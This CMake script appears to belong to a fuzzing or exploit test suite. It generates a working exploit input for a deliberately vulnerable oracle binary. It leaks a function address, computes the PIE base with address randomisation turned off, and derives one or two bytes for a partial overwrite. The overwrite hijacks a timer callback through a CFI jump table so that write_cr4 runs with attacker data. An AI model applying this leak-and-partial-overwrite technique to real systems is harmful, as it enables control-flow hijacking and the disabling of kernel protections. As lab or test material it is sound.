# SPDX-License-Identifier: MIT
# The foreign-callback chain through a partial overwrite (fuzz/overflow_oracle.c
# judge_slot()): one or two low bytes written over the ring's own .function
# make it deferred_timer_fn (under cfi-icall both callbacks are entries of
# one jump table), and func/data planted in front of the timer run write_cr4
# with the attacker's bytes (data = 0x407f0: a value the CPU loads,
# runner/x86_cr4.h). Which bytes depends on the binary's layout, so the
# template's INDEX write (its length at byte 2, its value from byte 16) is
# set here from the binary's own symbol table; the replay must be
# HIJACKED:WRITE_CR4_407F0_VIA_FOREIGN_CALLBACK (0x407f0, the goal's value).
#   cmake -DNM=nm -DBIN=th-fuzz-overflow-modern-<cfg> -DTMPL=foreign-partial.tmpl -DOUT=f.bin -P ...
execute_process(COMMAND ${NM} ${BIN} OUTPUT_VARIABLE syms RESULT_VARIABLE rc)
if(NOT rc EQUAL 0)
  message(FATAL_ERROR "${NM} ${BIN}: exit ${rc}")
endif()
foreach(fn write_cr4 deferred_timer_fn neighbour_timer_fn)
  if(NOT syms MATCHES "([0-9a-f]+) [tT] ${fn}\n")
    message(FATAL_ERROR "${BIN}: no symbol ${fn}")
  endif()
  set(addr_${fn} ${CMAKE_MATCH_1})
endforeach()
# The low bytes a partial overwrite writes are the run-time address's: a PIE
# is loaded at a random page, whose bits from 12 on shift the second byte.
# So every run is without address randomisation (setarch -R) and the load
# address is read from a first run's chain (the leaked &write_cr4 it writes).
set(run setarch x86_64 -R ${BIN})
file(READ ${TMPL} hex HEX)
string(SUBSTRING "${hex}" 0 4 head)
string(SUBSTRING "${hex}" 6 26 mid)
string(SUBSTRING "${hex}" 34 -1 tail)
# hex -> the file, through \x escapes that cmake's file(WRITE) cannot
# express: printf does.
function(write_input hexstr)
  string(REGEX REPLACE "([0-9a-f][0-9a-f])" "\\\\x\\1" esc "${hexstr}")
  execute_process(COMMAND printf "${esc}" OUTPUT_FILE ${OUT} RESULT_VARIABLE rc)
endfunction()
write_input("${head}01${mid}00${tail}")
execute_process(COMMAND ${run} ${OUT} RESULT_VARIABLE rc OUTPUT_VARIABLE out ERROR_VARIABLE err)
if(NOT "${out}${err}" MATCHES "= &write_cr4; bytes ([0-9a-f][0-9a-f])([0-9a-f][0-9a-f])([0-9a-f][0-9a-f])([0-9a-f][0-9a-f])([0-9a-f][0-9a-f])([0-9a-f][0-9a-f])([0-9a-f][0-9a-f])([0-9a-f][0-9a-f])")
  message(FATAL_ERROR "no leaked &write_cr4 in the first run's chain:\n${out}${err}")
endif()
set(le "${CMAKE_MATCH_8}${CMAKE_MATCH_7}${CMAKE_MATCH_6}${CMAKE_MATCH_5}${CMAKE_MATCH_4}${CMAKE_MATCH_3}${CMAKE_MATCH_2}${CMAKE_MATCH_1}")
math(EXPR base "0x${le} - 0x${addr_write_cr4}")
math(EXPR d "${base} + 0x${addr_deferred_timer_fn}")
math(EXPR r "${base} + 0x${addr_neighbour_timer_fn}")
# One byte when the two callbacks differ only in their low byte, else two:
# the most a partial overwrite may compose without a leak (the oracle's
# TH_FZ_PARTIAL_MAX); the INDEX op's payload then has n = 2 and one more byte.
math(EXPR d8 "${d} >> 8")
math(EXPR r8 "${r} >> 8")
math(EXPR d16 "${d} >> 16")
math(EXPR r16 "${r} >> 16")
if(d8 EQUAL r8)
  set(nbytes 1)
elseif(d16 EQUAL r16)
  set(nbytes 2)
else()
  message(FATAL_ERROR "deferred_timer_fn and the ring's callback differ above their two low "
          "bytes in this build: no partial overwrite the oracle allows reaches it")
endif()
foreach(k 0 1)
  math(EXPR b "(${d} >> (8 * ${k})) & 255" OUTPUT_FORMAT HEXADECIMAL)
  string(REPLACE "0x" "" b "${b}")
  string(LENGTH "${b}" bl)
  if(bl EQUAL 1)
    set(b "0${b}")
  endif()
  set(byte${k} ${b})
endforeach()
if(nbytes EQUAL 1)
  write_input("${head}01${mid}${byte0}${tail}")
  set(lo "${byte0}")
else()
  write_input("${head}02${mid}${byte0}${byte1}${tail}")
  set(lo "${byte1}${byte0}")
endif()
execute_process(COMMAND ${run} ${OUT} RESULT_VARIABLE rc OUTPUT_VARIABLE out ERROR_VARIABLE err)
if(NOT "${out}${err}" MATCHES "TH-FUZZ-RESULT: outcome=HIJACKED sig=HIJACKED:WRITE_CR4_407F0_VIA_FOREIGN_CALLBACK ")
  message(FATAL_ERROR "low ${nbytes} byte(s) 0x${lo}: not the foreign-callback hijack:\n${out}${err}")
endif()
